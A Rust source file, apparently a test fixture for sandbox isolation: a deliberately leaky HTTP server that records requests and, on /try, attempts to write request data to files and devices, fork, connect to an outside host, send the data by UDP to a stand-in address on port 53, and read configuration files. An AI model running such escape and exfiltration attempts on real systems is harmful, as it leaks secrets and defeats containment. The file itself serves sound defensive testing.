//! A server behind the gateway that logs and hands on whatever it can, on purpose: the image has to keep it from that.
//!
//! It answers HTTP/1.1 on 127.0.0.1 and the port that it is given: `…/try` with what it could do, `…/remembered` with the
//! number of requests that it has in its memory, everything else with what it was sent.

use std::fs::{read_dir, File, OpenOptions};
use std::io::{BufRead, BufReader, Result, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::os::unix::net::UnixStream;
use std::sync::Mutex;

/// Every request, head and body.
static REMEMBERED: Mutex<Vec<Vec<u8>>> = Mutex::new(Vec::new());

extern "C" {
    fn memfd_create(name: *const i8, flags: u32) -> i32;
    fn fork() -> i32;
}

fn main() -> Result<()> {
    let port = std::env::args().nth(1).and_then(|port| port.parse::<u16>().ok()).unwrap_or(8000);
    let listener = TcpListener::bind(("127.0.0.1", port))?;
    for stream in listener.incoming() {
        std::thread::spawn(move || answer(stream?));
    }
    Ok(())
}

fn answer(stream: TcpStream) -> Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let head = head(&mut reader)?;
    let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
    if path.ends_with("/remembered") {
        let count = REMEMBERED.lock().map(|all| all.len()).unwrap_or(0);
        return say(stream, format!("{count}").as_bytes());
    }
    let body = body(&mut reader, &head)?;
    println!("request {head}");
    eprintln!("request {head} {}", String::from_utf8_lossy(&body));
    if let Ok(mut all) = REMEMBERED.lock() {
        all.push([head.as_bytes(), &body].concat());
    }
    match path.ends_with("/try") {
        true => say(stream, attempts(&head).as_bytes()),
        false => say(stream, &body),
    }
}

fn head(reader: &mut impl BufRead) -> Result<String> {
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") && reader.read_line(&mut head)? > 0 {}
    Ok(head)
}

fn body(reader: &mut impl BufRead, head: &str) -> Result<Vec<u8>> {
    let (head, mut body) = (head.to_ascii_lowercase(), Vec::new());
    if head.contains("transfer-encoding: chunked") {
        loop {
            let mut size = String::new();
            reader.read_line(&mut size)?;
            let size = usize::from_str_radix(size.trim(), 16).unwrap_or(0);
            let start = body.len();
            body.resize(start + size + 2, 0);
            reader.read_exact(&mut body[start..])?;
            body.truncate(start + size);
            if size == 0 {
                return Ok(body);
            }
        }
    }
    let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.trim().parse().ok()).unwrap_or(0);
    body.resize(length, 0);
    reader.read_exact(&mut body)?;
    Ok(body)
}

fn say(mut stream: TcpStream, body: &[u8]) -> Result<()> {
    write!(stream, "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: {}\r\nconnection: close\r\n\r\n", body.len())?;
    stream.write_all(body)
}

/// A line each: what was tried, and whether it worked.
fn attempts(secret: &str) -> String {
    let append = |path: &str| OpenOptions::new().append(true).create(true).open(path)?.write_all(secret.as_bytes());
    let lines = ["/srv/log", "/log", "/tmp/log", "/run/log", "/dev/kmsg", "/dev/console", "/dev/ttyS0", "/dev/shm/log", "/proc/self/comm"]
        .map(|path| line(path, append(path).is_ok()));
    let others = [
        line("memory file", unsafe { memfd_create(c"log".as_ptr(), 0) } >= 0),
        line("process", unsafe { fork() } >= 0),
        line("connection outside", TcpStream::connect("198.51.100.80:8443").is_ok()),
        line("connection inside", TcpStream::connect("127.0.0.1:8787").is_ok()),
        line("other port", TcpListener::bind("0.0.0.0:8443").is_ok()),
        line("datagram", UdpSocket::bind("0.0.0.0:0").and_then(|udp| udp.send_to(secret.as_bytes(), "198.51.100.80:53")).is_ok()),
        line("unix socket", UnixStream::pair().is_ok_and(|(mut one, _two)| one.write_all(b"x").is_ok() && UnixStream::connect("/run/log").is_ok())),
        line("configuration", File::open("/etc/vitrine/config.json").is_ok() || File::open("/../etc/vitrine/config.json").is_ok()),
        line("other programs", read_dir("/usr/lib/vitrine").is_ok()),
        line("environment", std::env::vars().any(|(name, _)| name != "MODE")),
        line("own files", File::open("/srv/server").is_ok()),
    ];
    lines.into_iter().chain(others).collect()
}

fn line(what: &str, works: bool) -> String {
    format!("{what}: {}\n", if works { "works" } else { "refused" })
}
